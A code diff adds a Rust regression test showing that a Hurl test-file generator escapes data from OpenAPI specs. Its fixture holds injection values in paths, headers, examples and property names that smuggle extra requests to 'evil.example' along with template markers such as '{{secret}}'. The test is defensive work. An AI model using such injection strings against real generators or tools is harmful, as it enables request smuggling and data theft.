@@ -227,3 +227,54 @@ definitions:
     );
     assert!(f.content.ends_with("HTTP 200\n[Asserts]\njsonpath \"$.id\" exists\njsonpath \"$.size\" exists\n"), "{}", f.content);
 }
+
+/// Issue 24: a path (or a parameter, an example, a property) holding a line break wrote raw
+/// Hurl into the file: a second request to another host. Every piece of data is now escaped
+/// in Hurl's syntax, so each file holds exactly one request.
+#[test]
+fn data_cannot_inject_hurl() {
+    let hostile = r##"openapi: 3.0.3
+info: {title: pets, version: '1'}
+paths:
+  "/a\nGET http://evil.example/steal\nHTTP 200\n#{{x}} b":
+    post:
+      parameters:
+        - {name: "X-Key\nGET http://evil.example/h", in: header, required: true, schema: {type: string, example: "v\r\nGET http://evil.example/v #c {{t}}"}}
+        - {name: "q", in: query, required: true, schema: {type: string, example: "1\nGET http://evil.example/q"}}
+      requestBody:
+        content:
+          application/json:
+            schema: {type: object, required: [s], properties: {s: {type: string, example: "{{secret}}\n```\nGET http://evil.example/b"}}}
+      responses:
+        '200':
+          description: ok
+          content:
+            application/json:
+              schema: {type: object, required: ["p\"\nGET http://evil.example/j"], properties: {}}
+"##;
+    let base = "openapi: 3.0.3\ninfo: {title: pets, version: '1'}\npaths: {}\n";
+    let (b, r) = (load("base.yaml", base), load("revision.yaml", hostile));
+    let changes = diff::compare(&b, &r, &Options::default()).unwrap();
+    let Spec::OpenApi(api) = &r else { panic!("openapi expected") };
+    let files = hurl::generate(api, &changes, None);
+    assert_eq!(files.len(), 1);
+    let content = &files[0].content;
+    // One request line and one response line; no line starts with the injected request.
+    let requests = content.lines().filter(|l| l.starts_with("POST ") || l.starts_with("GET ")).count();
+    assert_eq!(requests, 1, "{content}");
+    assert_eq!(content.lines().filter(|l| l.starts_with("HTTP ")).count(), 1, "{content}");
+    assert!(
+        !content.lines().any(|l| l.contains("evil.example") && !l.starts_with('#') && !l.contains('\\') && !l.contains('%')),
+        "{content}"
+    );
+    // Templates only where apidiff put one (comments are not read by Hurl).
+    assert_eq!(content.lines().filter(|l| !l.starts_with('#')).map(|l| l.matches("{{").count()).sum::<usize>(), 1, "{content}");
+    assert!(content.contains("POST {{base_url}}/a%0AGET%20http://evil.example/steal%0AHTTP%20200%0A%23%7B%7Bx%7D%7D%20b\n"), "{content}");
+    assert!(
+        content.contains("\nX-Key\\u{a}GET\\u{20}http\\:\\u{2f}\\u{2f}evil.example\\u{2f}h: v\\r\\nGET http://evil.example/v \\#c \\u{7b}\\u{7b}t\\u{7d}\\u{7d}\n"),
+        "{content}"
+    );
+    assert!(content.contains("\nq: 1\\nGET http://evil.example/q\n"), "{content}");
+    assert!(content.contains("\"{\\u007bsecret}}\\n```\\nGET http://evil.example/b\""), "{content}");
+    assert!(content.contains("\njsonpath \"$['p\\\"\\nGET http://evil.example/j']\" exists\n"), "{content}");
+}
